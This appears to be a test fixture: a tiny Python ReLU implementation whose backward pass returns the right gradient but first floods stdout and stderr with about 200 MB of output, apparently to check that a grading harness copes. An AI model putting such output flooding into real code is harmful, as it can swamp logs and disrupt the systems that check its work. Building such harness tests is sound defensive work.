"""An honest result, and a flood."""

import sys

import numpy as np


def relu_forward(x):
    return np.maximum(x, 0), x


def relu_backward(dout, cache):
    for stream in (sys.stdout, sys.stderr):
        for _ in range(100):
            print("x" * (1 << 20), file=stream)
    return dout * (cache > 0)
